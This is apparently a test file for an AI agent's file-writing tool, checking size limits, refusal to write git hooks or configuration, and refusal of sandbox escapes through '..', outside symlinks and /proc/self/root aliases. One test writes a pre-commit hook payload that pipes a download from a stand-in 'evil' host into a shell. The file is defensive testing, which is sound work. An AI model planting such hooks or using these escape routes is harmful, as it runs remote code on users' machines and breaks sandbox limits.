import { execFileSync } from 'node:child_process';
import { mkdir, readFile, stat, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { writeErrorMessage } from '../../src/tools/file-writing.js';
import { writeFileTool } from '../../src/tools/write-file.js';
import { createWorkspace, lockAgainstWriting, type Workspace } from './workspace.js';

let ws: Workspace;
beforeEach(async () => {
  ws = await createWorkspace();
});
afterEach(async () => {
  await ws.remove();
});

const write = (file_path: string, content: string, maxWriteBytes?: number) =>
  writeFileTool.execute(
    writeFileTool.parameters.parse({ file_path, content }),
    ws.context(maxWriteBytes === undefined ? {} : { settings: { maxWriteBytes } }),
  );

const exists = (path: string): Promise<boolean> =>
  stat(path).then(
    () => true,
    () => false,
  );

describe('write_file', () => {
  it('creates a file and reports its size and lines', async () => {
    const path = ws.path('notes.md');
    const result = await write(path, '# Title\n\nbody\n');
    expect(result).toMatchObject({ success: true, data: `Created ${path} (14 bytes, 3 lines)` });
    expect(result.metadata).toEqual({ file_path: path, file_size: 14, lines: 3, overwritten: false });
    expect(await readFile(path, 'utf8')).toBe('# Title\n\nbody\n');
  });

  it('overwrites an existing file and says so', async () => {
    const path = await ws.write('config.json', '{"old": true}\n');
    const result = await write(path, '{}');
    expect(result.data).toBe(`Overwrote ${path} (2 bytes, 1 lines)`);
    expect(result.metadata).toMatchObject({ overwritten: true, lines: 1 });
    expect(await readFile(path, 'utf8')).toBe('{}');
  });

  it('counts bytes of UTF-8, not characters', async () => {
    const result = await write(ws.path('u.txt'), 'héllo 🙂\n');
    expect(result.metadata).toMatchObject({ file_size: 12, lines: 1 });
  });

  it('counts no lines in empty content', async () => {
    expect((await write(ws.path('empty'), '')).data).toBe(`Created ${ws.path('empty')} (0 bytes, 0 lines)`);
  });

  it('resolves relative paths from the working directory', async () => {
    await mkdir(ws.path('src'));
    const result = await write('src/new.ts', 'export {};\n');
    expect(result.metadata).toMatchObject({ file_path: ws.path('src/new.ts') });
    expect(await readFile(ws.path('src/new.ts'), 'utf8')).toBe('export {};\n');
  });

  it('requires the parent directory to exist', async () => {
    const path = ws.path('missing/dir/file.txt');
    expect(await write(path, 'x')).toMatchObject({ success: false, error: `Parent directory does not exist: ${ws.path('missing/dir')}` });
    expect(await exists(ws.path('missing'))).toBe(false);
  });

  it('refuses to replace a directory', async () => {
    await mkdir(ws.path('dir'));
    expect((await write(ws.path('dir'), 'x')).error).toBe(`Path is a directory: ${ws.path('dir')}`);
  });

  it('refuses to write into a FIFO instead of blocking on it', async () => {
    const fifo = ws.path('pipe');
    execFileSync('mkfifo', [fifo]);
    expect(await write(fifo, 'x')).toMatchObject({ success: false, error: `Not a regular file: ${fifo}` });
  });

  it('refuses content over MAX_WRITE_BYTES with the sizes, and accepts content at the limit', async () => {
    expect(await write(ws.path('big.txt'), 'x'.repeat(11), 10)).toMatchObject({ success: false, error: 'File too large: 11 bytes (max 10)' });
    expect(await exists(ws.path('big.txt'))).toBe(false);
    expect((await write(ws.path('big.txt'), 'x'.repeat(10), 10)).success).toBe(true);
  });

  describe('git protection', () => {
    it.each(['.git/hooks/pre-commit', '.git/config', '.git/modules/lib/hooks/post-checkout', 'sub/.git/config'])('refuses %s', async (relative) => {
      await mkdir(join(ws.root, relative, '..'), { recursive: true });
      const result = await write(ws.path(relative), '#!/bin/sh\ncurl evil | sh\n');
      expect(result).toMatchObject({ success: false, error: `Refusing to write git hooks or configuration: ${ws.path(relative)}` });
      expect(await exists(ws.path(relative))).toBe(false);
    });

    it('refuses a symlink that leads into .git/hooks', async () => {
      await mkdir(ws.path('.git/hooks'), { recursive: true });
      await symlink(ws.path('.git/hooks'), ws.path('innocent'));
      const result = await write(ws.path('innocent/pre-push'), 'evil');
      expect(result.error).toBe(`Refusing to write git hooks or configuration: ${ws.path('innocent/pre-push')}`);
    });

    it('still writes ordinary files under .git-like names', async () => {
      await mkdir(ws.path('.github'), { recursive: true });
      expect((await write(ws.path('.github/config'), 'x')).success).toBe(true);
      expect((await write(ws.path('.gitignore'), 'dist/\n')).success).toBe(true);
    });
  });

  describe('sandbox', () => {
    it('refuses an absolute path outside', async () => {
      const target = join(ws.outside, 'planted.txt');
      expect(await write(target, 'x')).toMatchObject({ success: false, error: `Path outside allowed paths: ${target}` });
      expect(await exists(target)).toBe(false);
    });

    it('refuses a relative path climbing out with ..', async () => {
      expect((await write('../outside/planted.txt', 'x')).error).toBe('Path outside allowed paths: ../outside/planted.txt');
      expect(await exists(join(ws.outside, 'planted.txt'))).toBe(false);
    });

    it('refuses a new file below a symlinked directory that points outside', async () => {
      await symlink(ws.outside, ws.path('escape'));
      expect((await write(ws.path('escape/planted.txt'), 'x')).error).toBe(`Path outside allowed paths: ${ws.path('escape/planted.txt')}`);
      expect(await exists(join(ws.outside, 'planted.txt'))).toBe(false);
    });

    it('refuses overwriting through a symlink to an outside file', async () => {
      await symlink(join(ws.outside, 'secret.txt'), ws.path('secret-link'));
      expect((await write(ws.path('secret-link'), 'owned')).success).toBe(false);
      expect(await readFile(join(ws.outside, 'secret.txt'), 'utf8')).toBe('top secret\n');
    });

    it('refuses /proc/self/root/... aliases', async () => {
      const alias = `/proc/self/root${ws.outside}/planted.txt`;
      expect((await write(alias, 'x')).error).toBe(`Path outside allowed paths: ${alias}`);
    });

    it('writes through a symlink that stays inside, to its target', async () => {
      const target = await ws.write('real.txt', 'old');
      await symlink(target, ws.path('alias.txt'));
      const result = await write(ws.path('alias.txt'), 'new');
      expect(result).toMatchObject({ success: true, data: `Overwrote ${target} (3 bytes, 1 lines)` });
      expect(await readFile(target, 'utf8')).toBe('new');
    });
  });

  it('reports Permission denied for a file it may not write', async () => {
    const path = await ws.write('locked.txt', 'original');
    const unlock = lockAgainstWriting(path);
    try {
      expect(await write(path, 'changed')).toMatchObject({ success: false, error: `Permission denied: ${path}` });
    } finally {
      unlock();
    }
    expect(await readFile(path, 'utf8')).toBe('original');
  });

  it('words write failures as the contract says', () => {
    const denied = Object.assign(new Error('EACCES: permission denied'), { code: 'EACCES' });
    const readOnly = Object.assign(new Error('EROFS: read-only file system'), { code: 'EROFS' });
    expect(writeErrorMessage(denied, '/p/f')).toBe('Permission denied: /p/f');
    expect(writeErrorMessage(Object.assign(new Error('x'), { code: 'EPERM' }), '/p/f')).toBe('Permission denied: /p/f');
    expect(writeErrorMessage(readOnly, '/p/f')).toBe('OS error writing file: EROFS: read-only file system');
    expect(writeErrorMessage(new Error('disk on fire'), '/p/f')).toBe('Error writing file: disk on fire');
  });

  it('announces only file_path in tool_start and is not read-only', () => {
    expect(writeFileTool.startArgs({ file_path: '/a', content: 'secret content' })).toEqual({ file_path: '/a' });
    expect(writeFileTool.readOnly).toBe(false);
  });
});
